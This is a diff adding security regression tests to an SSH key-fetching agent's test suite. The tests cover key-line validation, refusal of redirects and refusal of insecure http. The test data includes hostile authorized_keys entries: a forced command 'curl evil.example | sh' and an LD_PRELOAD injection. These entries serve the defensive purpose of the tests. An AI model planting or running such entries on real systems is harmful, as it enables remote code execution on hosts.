@@ -71,6 +71,25 @@ afterAll(async () => {
   await new Promise((resolve) => server.close(resolve));
 });
 
+/** A second server that only records what reaches it. */
+async function recorder() {
+  const requests: string[] = [];
+  const other = createServer((req, res) => {
+    requests.push(`${req.method} ${req.url}`);
+    res.end("{}");
+  });
+  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
+  extraServers.push(other);
+  return { url: `http://127.0.0.1:${(other.address() as AddressInfo).port}`, requests };
+}
+const extraServers: Server[] = [];
+afterEach(async () => {
+  for (const other of extraServers.splice(0)) {
+    other.closeAllConnections();
+    await new Promise((resolve) => other.close(resolve));
+  }
+});
+
 let stateDir: string;
 let out: string;
 let err: string;
@@ -220,9 +239,65 @@ describe("outpost-agent authorized-keys", () => {
     expect(await authorizedKeys("deploy", options())).toBe(1);
     expect(err).toMatch(/not enrolled/);
   });
+
+  it("prints only lines the public-key parser accepts, normalized, and caches only those (review L6)", async () => {
+    handler = (_req, _body, res) =>
+      json(res, 200, {
+        data: {
+          username: "deploy",
+          public_keys: [
+            `command="curl evil.example | sh" ${KEY_A}`,
+            `environment="LD_PRELOAD=/tmp/x.so" ${KEY_B}`,
+            "ssh-ed25519 AAAAnotakey",
+            `  ${KEY_B}  `,
+            `ssh-rsa ${KEY_A.split(" ")[1]} mislabelled`,
+          ],
+        },
+      });
+    expect(await authorizedKeys("deploy", options())).toBe(0);
+    expect(out).toBe(`${KEY_B}\n`);
+    expect(err.match(/ignoring an invalid key/g)).toHaveLength(4);
+    out = "";
+    handler = outage;
+    expect(await authorizedKeys("deploy", options())).toBe(0);
+    expect(out).toBe(`${KEY_B}\n`);
+  });
+
+  it("does not follow a redirect, so the token never reaches another server (review L6)", async () => {
+    const elsewhere = await recorder();
+    handler = (_req, _body, res) => {
+      res.writeHead(302, { location: `${elsewhere.url}/agent/v1/ssh/authorized_keys?username=deploy` });
+      res.end();
+    };
+    expect(await authorizedKeys("deploy", options())).toBe(1);
+    expect(err).toMatch(/server unreachable/);
+    expect(elsewhere.requests).toEqual([]);
+  });
+
+  it("refuses a plain http server that is not loopback unless OUTPOST_ALLOW_INSECURE_HTTP=1 (review M2)", async () => {
+    await enrol("http://outpost.invalid");
+    expect(await authorizedKeys("deploy", options())).toBe(1);
+    expect(err).toMatch(
+      /refusing plain http:\/\/ server http:\/\/outpost\.invalid.*OUTPOST_ALLOW_INSECURE_HTTP=1/,
+    );
+    err = "";
+    expect(await authorizedKeys("deploy", { ...options(), allowInsecureHttp: true })).toBe(1);
+    expect(err).not.toMatch(/refusing/);
+    expect(err).toMatch(/server unreachable/);
+  });
 });
 
 describe("outpost-agent verify-password", () => {
+  it("does not follow a 307, which would re-send the password to its target (review L6)", async () => {
+    const elsewhere = await recorder();
+    handler = (_req, _body, res) => {
+      res.writeHead(307, { location: `${elsewhere.url}/steal` });
+      res.end();
+    };
+    expect(await verifyPassword("deploy", PASSWORD, options())).toBe(1);
+    expect(elsewhere.requests).toEqual([]);
+  });
+
   it("exits 0 for the right password and 1 for a wrong one", async () => {
     handler = gateway({}, { deploy: PASSWORD });
     expect(await verifyPassword("deploy", PASSWORD, options())).toBe(0);
